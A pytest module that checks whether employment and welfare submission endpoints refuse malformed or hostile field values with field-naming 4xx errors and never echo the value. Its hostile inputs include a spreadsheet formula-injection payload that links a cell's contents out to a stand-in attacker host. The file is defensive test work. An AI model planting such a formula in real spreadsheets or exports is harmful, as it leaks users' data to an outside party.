"""Every field of every family the adapters take, with each of the owner's hostile values: a NUL, a 1 MB
string, an integer past 2^31, full-width digits, a formula, a forged date, a code of someone else's site.
Each is refused with a 4xx naming the field (never the value, never a 5xx), or — where the value is a
legitimate one for that field (a formula is only text in a name) — accepted; never accepted where the
database could not hold it or the credential does not own it."""

from __future__ import annotations

import copy
import uuid
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from typing import Any

import asyncpg
import httpx
import pytest
import pytest_asyncio

from infra.auth import OrgKind, Role, add_client
from infra.config import Settings
from infra.topics import ensure_topics
from producers.adapters.app import employment_app, welfare_app
from producers.adapters.serve import running
from producers.adapters.sites import add_sites
from producers.submission import Submission
from tests import factories
from tests.helpers import free_port

NUL = "a\x00b"
MEGABYTE = "m" * 1_000_000
PAST_INT32 = 2**31
FULL_WIDTH = "１３１０４１"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
FORGED_DATE = "2025-02-30"
ANOTHER_SITE = "112038-01"  # Kawaguchi's: registered to office 1102, run by 112038
HOSTILE: dict[str, Any] = {
    "nul": NUL,
    "megabyte": MEGABYTE,
    "past int32": PAST_INT32,
    "full-width digits": FULL_WIDTH,
    "formula": FORMULA,
    "forged date": FORGED_DATE,
    "another site": ANOTHER_SITE,
}


@dataclass
class Edge:
    employment: str
    welfare: str
    office: str  # publishing token of office 1301
    authority: str  # publishing token of authority 131041


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def edge(pool: asyncpg.Pool, settings: Settings) -> AsyncIterator[Edge]:
    own = settings.model_copy(update={"topic_namespace": f"f{uuid.uuid4().hex[:10]}"})
    await ensure_topics(own)
    async with pool.acquire() as conn:
        await add_sites(conn, [(factories.SITE, factories.OFFICE, "新宿"), (ANOTHER_SITE, "1102", "川口")])
        _, office = await add_client(
            conn, name="fields office", org_kind=OrgKind.OFFICE, org_code=factories.OFFICE,
            roles=frozenset({Role.PUBLISH}),
        )  # fmt: skip
        _, authority = await add_client(
            conn, name="fields authority", org_kind=OrgKind.AUTHORITY, org_code=factories.AUTHORITY,
            roles=frozenset({Role.PUBLISH}),
        )  # fmt: skip
    async with (
        running(employment_app(own, relay=False), "127.0.0.1", free_port()) as employment,
        running(welfare_app(own, relay=False), "127.0.0.1", free_port()) as welfare,
    ):
        yield Edge(employment, welfare, office, authority)


def _leaves(value: Any, prefix: str = "") -> Iterator[str]:
    if isinstance(value, dict):
        for k, v in value.items():
            yield from _leaves(v, f"{prefix}{k}.")
    elif isinstance(value, list) and value and isinstance(value[0], dict):
        for k, v in value[0].items():
            yield from _leaves(v, f"{prefix}0.{k}.")
    else:
        yield prefix.removesuffix(".")


def _with(data: dict[str, Any], path: str, value: Any) -> dict[str, Any]:
    out = copy.deepcopy(data)
    node: Any = out
    *parents, last = path.split(".")
    for p in parents:
        node = node[int(p)] if p.isdigit() else node[p]
    if isinstance(node.get(last) if isinstance(node, dict) else None, list):
        node[last] = [value]
    else:
        node[last] = value
    return out


def _families() -> list[tuple[str, str, Submission]]:
    """(adapter, family path, a valid submission) for every family each adapter takes."""
    pk = factories.person_key()
    welfare_consent = factories.consent(
        pk, captured={"side": "authority", "site": factories.SITE, "channel": "paper_form",
                      "signed_at": "2025-04-03T10:00:00+09:00"},
    )  # fmt: skip
    return [
        ("employment", "registration", factories.registration(pk)),
        ("employment", "consent", factories.consent(pk)),
        ("employment", "placement", factories.placement(pk)),
        ("employment", "retention", factories.retention(pk, uuid.uuid4().hex)),
        ("welfare", "referral", factories.referral(pk)),
        ("welfare", "consent", welfare_consent),
        ("welfare", "retention", factories.retention(pk, uuid.uuid4().hex)),
    ]


# Personal free text: full-width digits, a formula, a date or a site code are only text there (the exports
# write every such cell as text: test_hostile_http.py::test_formula_cells_are_escaped_in_every_csv_export).
PERSONAL_TEXT = {"personal.name", "personal.name_kana", "personal.phone", "personal.employer_name",
                 "personal.case_number"}  # fmt: skip
MUST_REFUSE = {"nul", "megabyte", "past int32"}  # no field holds these


def _shifted(field: str, by: int) -> str:
    """A batch error's field with its event index moved by ``by`` (``[2].site`` -> ``[5].site``)."""
    index, _, rest = field.partition("]")
    return f"[{int(index.removeprefix('[')) + by}]{rest}"


def _echoes(value: Any, text: str) -> bool:
    probe = str(value)
    return (probe[:24] if len(probe) > 24 else probe) in text


@pytest.mark.parametrize("kind", list(HOSTILE))
@pytest.mark.parametrize(("adapter", "family"), [(a, f) for a, f, _ in _families()])
async def test_a_hostile_value_in_any_field_is_refused_naming_the_field_never_the_value(
    edge: Edge, adapter: str, family: str, kind: str
) -> None:
    """One batch per family and hostile value, each of its events with the value in another field: the
    batch is refused (422) with an error at each event's index naming that field; an event whose value
    only the provenance rules or nothing refuses (free text) is then sent alone: 403 or 202, never 5xx."""
    value = HOSTILE[kind]
    sub = {f: s for a, f, s in _families() if a == adapter}[family]
    leaves = list(_leaves(sub.data))
    url, token = (edge.employment, edge.office) if adapter == "employment" else (edge.welfare, edge.authority)
    auth = {"Authorization": f"Bearer {token}"}
    async with httpx.AsyncClient(base_url=url, timeout=120, headers=auth) as http:
        named: set[tuple[str, str]] = set()  # (field, rule)
        size = 3 if kind == "megabyte" else len(leaves)  # a body holds 4 MiB at most
        for start in range(0, len(leaves), size):
            batch = [_with(sub.data, leaf, value) for leaf in leaves[start : start + size]]
            response = await http.post(f"/v1/{family}/batch", json=batch)
            assert response.status_code == 422, response.text[:500]
            assert not _echoes(value, response.text)
            named |= {(_shifted(e["field"], start), e["rule"]) for e in response.json()["errors"]}
        for i, leaf in enumerate(leaves):
            at = [(f, rule) for f, rule in named if f.startswith(f"[{i}]")]
            if at:  # the field, or (a rule across fields) the rule, names it
                head = leaf.split(".")[0]
                assert any(head in f or head in rule for f, rule in at), (leaf, at)
                continue
            assert kind not in MUST_REFUSE, (leaf, kind)
            alone = await http.post(f"/v1/{family}", json=_with(sub.data, leaf, value))
            assert alone.status_code in (202, 403), (leaf, kind, alone.status_code)
            assert alone.status_code == 403 or leaf in PERSONAL_TEXT or leaf == "form_version", (leaf, kind)
            assert not _echoes(value, alone.text), (leaf, kind)
